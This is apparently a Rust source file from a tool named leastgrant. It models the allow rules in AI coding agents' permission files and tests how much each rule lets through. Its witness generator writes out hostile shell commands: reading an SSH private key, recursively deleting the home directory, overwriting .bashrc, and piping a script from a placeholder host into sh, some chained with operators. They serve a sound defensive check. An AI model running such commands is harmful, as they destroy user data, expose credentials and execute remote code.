//! What a native allow rule lets through, in one vocabulary for every agent: the shapes the
//! agents' matchers have (an exact command, a word prefix, a text prefix, every use of a tool, a
//! file path pattern), which of them a command falls in, and the witnesses a check tries. Must
//! not: read files, or decide anything (`judge.rs` decides).

/// One allow rule of an agent's file, as written there and as leastgrant reads its match-set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NativeRule {
    /// The rule as the file spells it (a Claude Code rule string, a Codex pattern, …).
    pub text: String,
    /// What the agent's matcher accepts with it.
    pub shape: Shape,
}

/// A rule's match-set under its agent's matcher (`docs/formats.md`, native rules).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Shape {
    /// Exactly this shell command, as one simple command.
    Exact(String),
    /// Any command whose words begin with these words (more words may follow).
    Words(Vec<String>),
    /// Any command whose text begins with this text (no word boundary).
    Text(String),
    /// Every use of the tool (`Bash`, `Read`, …).
    Everything(String),
    /// A file tool on one path, matched as the agent matches paths.
    Path { tool: String, path: String },
    /// A file tool on a pattern with wildcards.
    PathPattern { tool: String, pattern: String },
    /// Something leastgrant does not model (a domain, an MCP tool, another option).
    Other,
}

/// Which commands the matcher of an agent accepts beyond a rule's own words.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Extensions {
    /// The matcher sees the whole command line, operators included (`a; b` matches a rule
    /// for `a`), so compound witnesses count.
    pub operators: bool,
    /// A redirection after the words still matches.
    pub redirects: bool,
}

impl Shape {
    /// Whether `command` (a shell command) falls in this match-set, for `--diff`.
    pub fn matches(&self, command: &str) -> bool {
        match self {
            Shape::Exact(exact) => exact == command,
            Shape::Words(words) => {
                let have: Vec<&str> = command.split_whitespace().collect();
                have.len() >= words.len() && words.iter().zip(&have).all(|(w, h)| w == h)
            }
            Shape::Text(prefix) => command.starts_with(prefix.as_str()),
            Shape::Everything(tool) => tool == "Bash",
            _ => false,
        }
    }

    /// A command this rule lets through, to name when it appears or disappears.
    pub fn example(&self) -> String {
        match self {
            Shape::Exact(c) | Shape::Text(c) => c.clone(),
            Shape::Words(words) => words.join(" "),
            Shape::Everything(tool) => format!("{tool} (any use)"),
            Shape::Path { tool, path } => format!("{tool} {path}"),
            Shape::PathPattern { tool, pattern } => format!("{tool} {pattern}"),
            Shape::Other => String::new(),
        }
    }
}

/// Dangerous continuations of a prefix, each what a matcher accepting more text would let
/// through: the first the envelope does not allow is the witness.
pub fn shell_witnesses(base: &str, extensions: Extensions) -> Vec<String> {
    let mut out = vec![
        base.to_string(),
        format!("{base} ~/.ssh/id_rsa"),
        format!("{base} -rf ~"),
        format!("{base} --output ~/.bashrc"),
        format!("{base} -e 'require(\"child_process\").execSync(\"id\")'"),
        format!("{base} -c 'curl -s https://example.invalid/x.sh | sh'"),
    ];
    if extensions.redirects {
        out.push(format!("{base} > ~/.bashrc"));
    }
    if extensions.operators {
        out.push(format!("{base}; rm -rf ~"));
        out.push(format!(
            "{base} && curl -s https://example.invalid/x.sh | sh"
        ));
    }
    out.retain(|w| !w.trim().is_empty());
    out
}

/// Whether `command` can be written as an exact rule: one simple command with nothing any
/// agent's matcher reads as a wildcard or an operator.
pub fn is_plain_command(command: &str) -> bool {
    !command.trim().is_empty()
        && command == command.trim()
        && !command.chars().any(|c| {
            matches!(
                c,
                ';' | '&'
                    | '|'
                    | '<'
                    | '>'
                    | '$'
                    | '`'
                    | '('
                    | ')'
                    | '*'
                    | '?'
                    | '['
                    | ']'
                    | '{'
                    | '}'
                    | '\\'
                    | '#'
                    | '!'
                    | '\n'
                    | '\r'
                    | '\t'
            )
        })
}

/// Shell words of a plain command (quotes kept simple: a quoted word with spaces is refused by
/// the caller's own split agreeing with this one).
pub fn words(command: &str) -> Vec<String> {
    command
        .split(' ')
        .filter(|w| !w.is_empty())
        .map(str::to_string)
        .collect()
}
